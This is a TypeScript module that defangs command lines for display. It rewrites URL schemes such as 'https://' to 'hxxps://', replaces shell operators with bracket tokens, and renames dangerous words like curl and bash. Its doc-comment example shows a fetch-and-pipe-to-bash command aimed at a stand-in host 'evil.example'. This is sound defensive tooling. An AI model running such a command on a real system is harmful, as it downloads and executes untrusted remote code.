/**
 * Defanging: rewriting a command line so it can be displayed, copied or stored without being
 * runnable or clickable. The original is always kept elsewhere; this is a display form.
 *
 * @module
 */

import { COMMAND_RENAMES, DANGEROUS_COMMANDS } from './command-sets.js';
import { defangOperators } from './operator-pass.js';
import { URL_SCHEME_DEFANGS } from './patterns.js';
import { pySplit, pyStrip } from './py-text.js';
import type { DefangStrategy } from './types.js';

// A literal alternation: at most one short attempt per position, no backtracking risk.
// `sftp://` is listed before `ftp://` only for clarity; both orders give `sfxp://`.
const URL_SCHEME_RE = new RegExp(
  URL_SCHEME_DEFANGS.map(([from]) => from.replace(/\//g, '\\/')).join('|'),
  'g',
);
const URL_SCHEME_MAP: ReadonlyMap<string, string> = new Map(URL_SCHEME_DEFANGS);

/**
 * Defangs URL schemes only (`https://`→`hxxps://`, `http://`→`hxxp://`, `ftp://`→`fxp://`,
 * `ftps://`→`fxps://`, `sftp://`→`sfxp://`, `file://`→`fxle://`), case-sensitively as the
 * predecessor's `defang_url` did. Everything else is left as written.
 *
 * @example
 * defangUrl('see http://1.2.3.4/x.sh'); // 'see hxxp://1.2.3.4/x.sh'
 * defangUrl('HTTP://x');                // 'HTTP://x'
 */
export function defangUrl(url: string): string {
  if (typeof url !== 'string') return '';
  return url.replace(URL_SCHEME_RE, (m) => URL_SCHEME_MAP.get(m) ?? m);
}

/** Aggressive-strategy word rewrite: dangerous words are lower-cased and renamed if a rename exists. */
function renameDangerousWords(s: string): string {
  return pySplit(s)
    .map((token) => {
      const lower = token.toLowerCase();
      return DANGEROUS_COMMANDS.has(lower) ? (COMMAND_RENAMES.get(lower) ?? lower) : token;
    })
    .join(' ');
}

/**
 * Defangs a command line with the given strategy, without the `[defang:…]` prefix.
 *
 * - `none`: returned unchanged.
 * - `moderate`: URL schemes and shell operators replaced in one left-to-right pass
 *   (`&&`→`[AND]`, `||`→`[OR]`, `|`→`[PIPE]`, `;`→`[SC]`, `` `x` ``→`[BACKTICK] x [BACKTICK]`,
 *   `$(x)`→`[SUBSHELL] x [SUBSHELL]`, `<x>`→`[REDIRECT] x [REDIRECT]`, `>>`→`[APPEND]`,
 *   `>`→`[OUTPUT]`, `2>&1`→`[STDERR]`), then trimmed; inner whitespace is kept.
 * - `aggressive`: as moderate, then split on whitespace, dangerous words renamed
 *   (`curl`→`cxrl`, `bash`→`bxsh`, …) or lower-cased, and re-joined with single spaces.
 *
 * Deviation from the predecessor: `2>&1` gives `[STDERR]` (it gave `2[OUTPUT]&1`) and no
 * replacement rewrites another's output; see `operator-pass.ts`.
 *
 * @example
 * defangCommand('curl -s https://evil.example/a | bash', 'aggressive');
 * // 'cxrl -s hxxps://evil.example/a [PIPE] bxsh'
 * defangCommand('Bash -c ZSH', 'aggressive'); // 'bxsh -c zsh'
 */
export function defangCommand(input: string, strategy: DefangStrategy): string {
  if (typeof input !== 'string') return '';
  if (strategy !== 'moderate' && strategy !== 'aggressive') return input;
  const replaced = defangOperators(input);
  return pyStrip(strategy === 'aggressive' ? renameDangerousWords(replaced) : replaced);
}
